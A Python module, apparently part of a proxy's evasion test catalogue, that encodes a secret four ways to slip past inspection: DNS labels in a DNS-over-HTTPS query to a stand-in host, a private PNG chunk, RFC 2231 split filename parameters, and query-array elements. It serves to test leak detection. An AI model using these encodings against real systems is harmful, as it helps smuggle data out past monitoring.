"""Places with a grammar of their own: a query of DNS, a chunk of a picture, a parameter in sections, an array."""

from __future__ import annotations

import base64
import re
import struct
import zlib
from dataclasses import replace

from proxy.cli.evasions.model import Family, Place, Request, Secret, Technique, placed
from proxy.cli.evasions.ways import resident


def _asked(secret: Secret) -> Request:
    labels = (*(secret.value[at : at + 6].encode() for at in range(0, len(secret.value), 6)), b"example", b"com")
    name = b"".join(bytes((len(label),)) + label for label in labels)
    wire = struct.pack(">6H", 0, 0x100, 1, 0, 0, 0) + name + b"\0\0\x10\0\1"
    return Request(
        path=b"/dns-query?dns=" + base64.urlsafe_b64encode(wire).rstrip(b"="), method="GET", host="dns.example.com"
    )


def _of_asked(request: Request) -> str:
    wire = base64.urlsafe_b64decode(request.path.partition(b"dns=")[2] + b"==")
    return "".join(re.findall(r"[0-9]{6}", wire.decode("latin-1")))


def _chunk(secret: Secret) -> Request:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0))
    points = chunk(b"IDAT", zlib.compress((b"\0" + b"\xff" * 8) * 8))
    own = chunk(b"prVt", secret.value.encode())
    return Request(b"\x89PNG\r\n\x1a\n" + head + own + points + chunk(b"IEND", b""), "image/png")


def _parameters(secret: Secret) -> Request:
    third = len(secret.value) // 3
    pieces = secret.value[:third], secret.value[third : 2 * third], secret.value[2 * third :]
    said = "; ".join(f'filename*{at}="{piece}"' for at, piece in enumerate(pieces))
    return Request(b"hello", "text/plain", ((b"Content-Disposition", f"attachment; {said}".encode()),))


def _array(secret: Secret) -> Request:
    query = "&".join(f"d[{at}]={sign}" for at, sign in enumerate(secret.value))
    return Request(path=f"/t?{query}".encode(), method="GET")


def _of_array(request: Request) -> str:
    return "".join(re.findall(r"=([^&]*)", request.path.decode()))


def _both(place: Place) -> tuple[Place, ...]:
    """With the method that is usual there, and with another."""
    return place, place._replace(
        name=f"{place.name}, PUT", send=lambda secret: replace(place.send(secret), method="PUT")
    )


TECHNIQUES: tuple[Technique, ...] = (
    placed(
        "DNS over HTTPS, in base64", Family.TRANSPORT, "answers it", _both(Place("GET", _asked, _of_asked)), resident
    ),
    placed(
        "chunk of one's own in a picture",
        Family.DOCUMENTS,
        "reads the chunk",
        _both(Place("PNG", _chunk, lambda request: request.body.partition(b"prVt")[2][:18].decode())),
        resident,
    ),
    placed(
        "a parameter in sections",
        Family.SPLITTING,
        "joins them, as RFC 2231 has it",
        _both(
            Place(
                "file name",
                _parameters,
                lambda request: "".join(re.findall(r'="(.*?)"', request.header(b"content-disposition"))),
            )
        ),
        resident,
    ),
    placed(
        "elements of a query's array",
        Family.SPLITTING,
        "joins them",
        _both(Place("query", _array, _of_array)),
        resident,
    ),
)
